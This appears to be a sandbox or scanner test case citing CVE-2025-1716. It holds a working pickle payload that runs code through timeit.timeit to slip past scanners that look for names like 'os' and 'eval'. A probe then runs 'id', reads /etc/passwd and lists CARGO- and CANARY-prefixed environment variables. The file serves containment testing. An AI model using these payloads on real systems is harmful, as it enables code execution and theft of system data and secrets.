# /// case
# technique = "pickle-and-marshal"
# analysis = ["forbidden-import"]
# without_analysis = "contained"
# reference = "CVE-2025-1716"
# ///
# A scanner knows which functions in a pickle are bad; this one names a harmless-looking helper that runs text.
import pickle

class Layer:
    def __reduce__(self):
        import timeit
        return timeit.timeit, ("print('unpickling runs code')", "pass", timeit.default_timer, 1)

data = pickle.dumps(Layer())
print(b"os" in data, b"eval" in data)
pickle.loads(data)
found = pickle.loads(b"cbuiltins\n__import__\n(S'os'\ntR.")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
